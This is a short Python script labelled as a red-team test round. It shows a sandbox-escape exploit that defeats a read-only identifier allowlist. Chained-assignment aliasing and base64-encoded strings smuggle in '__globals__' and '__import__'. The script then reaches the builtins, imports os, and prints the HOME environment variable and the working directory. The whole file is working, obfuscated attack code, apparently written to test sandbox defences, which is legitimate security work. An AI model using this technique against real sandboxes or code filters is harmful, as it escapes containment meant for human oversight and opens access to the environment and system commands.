# family: red team, round 48b (chained assignment aliases a read-only identifier table)
import base64

FIELDS = ALIAS = ["name"]
STEPS = MORE = ["name"]


def helper():
    return 1


def text(b64):
    return base64.b64decode(b64).decode()


def main():
    ALIAS.clear()
    ALIAS.append(text("X19nbG9iYWxzX18="))  # run-time "__globals__"
    MORE.clear()
    MORE.append(text("X19pbXBvcnRfXw=="))  # run-time "__import__"
    for key in FIELDS:
        g = getattr(helper, key)
        print(g)
        b = g[text("X19idWlsdGluc19f")]  # "__builtins__"
        print(b)
        for step in STEPS:
            os = getattr(b, step)("os")
            print(os, os.environ["HOME"], os.getcwd())


main()
